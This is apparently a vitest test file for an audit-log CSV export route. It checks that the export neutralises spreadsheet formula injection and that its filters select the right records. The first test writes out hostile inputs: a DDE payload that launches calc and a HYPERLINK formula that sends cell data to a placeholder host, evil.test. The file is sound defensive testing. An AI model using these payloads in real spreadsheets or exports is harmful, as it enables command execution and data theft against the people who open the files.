import { randomUUID } from "node:crypto";
import { expect, test, vi } from "vitest";
import type { SessionUser } from "@/lib/auth/session";
import { recordAudit } from "@/lib/audit/record";
import { parseCsv } from "@/tests/support/csv";
import { GET } from "@/app/api/audit/csv/route";

// The session is the one thing faked here: everything behind it is the real code.
const viewer: SessionUser = { id: "audit-csv-viewer", email: "viewer@example.test", name: "V", role: "viewer" };
vi.mock("@/lib/auth/session", () => ({ getCurrentUser: async () => viewer }));

async function exportCsv(query: Record<string, string>) {
  const res = await GET(new Request(`http://127.0.0.1/api/audit/csv?${new URLSearchParams(query)}`), {
    params: Promise.resolve({}),
  });
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
  return parseCsv(await res.text());
}

test("ATTACK: text typed into Lifeboat that a spreadsheet would run comes out as text in the export", async () => {
  const tag = randomUUID();
  const actor = { id: "u-formula", email: `=cmd|' /C calc'!A0-${tag}@example.test` };
  await recordAudit(actor, {
    action: "contact.create",
    targetType: "contact",
    targetId: `+${tag}`,
    detail: { name: '=HYPERLINK("http://evil.test/?"&A1,"click")' },
  });
  await recordAudit(actor, { action: "contact.update", targetType: "contact", targetId: `@${tag}`, detail: {} });

  const [header, ...rows] = await exportCsv({ who: tag });
  expect(header).toEqual([
    "seq",
    "at (UTC)",
    "actor",
    "actor id",
    "action",
    "subject type",
    "subject id",
    "detail",
    "hash",
  ]);
  expect(rows).toHaveLength(2);
  for (const row of rows) {
    for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
  }
  expect(rows[0]![2]).toBe(`'${actor.email}`);
  expect(rows[0]![6]).toBe(`'+${tag}`);
  // The detail is JSON text: it starts with "{", so it is unchanged and still readable.
  expect(JSON.parse(rows[0]![7]!)).toEqual({ name: '=HYPERLINK("http://evil.test/?"&A1,"click")' });
  expect(rows[1]![6]).toBe(`'@${tag}`);
  // Oldest first, with the chain's own numbers and hashes.
  expect(Number(rows[0]![0])).toBeLessThan(Number(rows[1]![0]));
  expect(rows[0]![8]).toMatch(/^[0-9a-f]{64}$/);
});

test("the export holds exactly what the filters select: who, action, subject and dates", async () => {
  const tag = randomUUID();
  const ana = { id: "u-ana", email: `ana-${tag}@example.test` };
  const ben = { id: "u-ben", email: `ben-${tag}@example.test` };
  await recordAudit(ana, { action: "run.plan", targetType: "run", targetId: `run-${tag}` });
  await recordAudit(ana, { action: "run.confirm", targetType: "run", targetId: `run-${tag}` });
  await recordAudit(ben, { action: "location.create", targetType: "location", targetId: `loc-${tag}` });

  const actions = async (query: Record<string, string>) => (await exportCsv(query)).slice(1).map((r) => r[4]);
  expect(await actions({ who: `ana-${tag}` })).toEqual(["run.plan", "run.confirm"]);
  expect(await actions({ who: tag, action: "run.*" })).toEqual(["run.plan", "run.confirm"]);
  expect(await actions({ who: tag, action: "run.confirm" })).toEqual(["run.confirm"]);
  expect(await actions({ subject: `run:run-${tag}` })).toEqual(["run.plan", "run.confirm"]);
  expect(await actions({ subject: `loc-${tag}` })).toEqual(["location.create"]);
  const today = new Date().toISOString().slice(0, 10);
  expect(await actions({ who: tag, from: today, to: today })).toHaveLength(3);
  expect(await actions({ who: tag, to: "2000-01-01" })).toEqual([]);
  // A malformed date is ignored rather than matching nothing.
  expect(await actions({ who: tag, from: "yesterday" })).toHaveLength(3);
});
